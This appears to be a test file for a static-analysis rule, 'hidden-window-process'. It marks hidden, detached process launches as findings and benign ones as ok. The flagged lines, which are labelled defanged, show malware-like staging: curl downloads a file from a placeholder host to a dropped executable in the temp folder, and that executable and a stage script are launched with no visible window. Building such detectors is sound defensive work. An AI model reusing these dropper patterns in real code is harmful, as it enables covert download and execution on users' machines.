# Test for hidden-window-process (defanged: paths and hosts are placeholders).
import os
import subprocess
import sys
import tempfile

dropped = os.path.join(tempfile.gettempdir(), "helper.exe")
# ruleid: hidden-window-process
subprocess.Popen(dropped, creationflags=0x08000000, shell=True)
# ruleid: hidden-window-process
subprocess.Popen([sys.executable, "stage.py"], creationflags=subprocess.CREATE_NO_WINDOW | subprocess.DETACHED_PROCESS)
# ruleid: hidden-window-process
subprocess.call(["curl", "-o", dropped, "https://example.invalid/x"], creationflags=subprocess.CREATE_NO_WINDOW)

# ok: hidden-window-process
subprocess.run(["git", "rev-parse", "HEAD"], creationflags=subprocess.CREATE_NO_WINDOW)
# ok: hidden-window-process
subprocess.Popen(["notepad", "readme.txt"])
# ok: hidden-window-process
subprocess.check_output(["where", "gcc"], creationflags=getattr(subprocess, "CREATE_NO_WINDOW", 0))
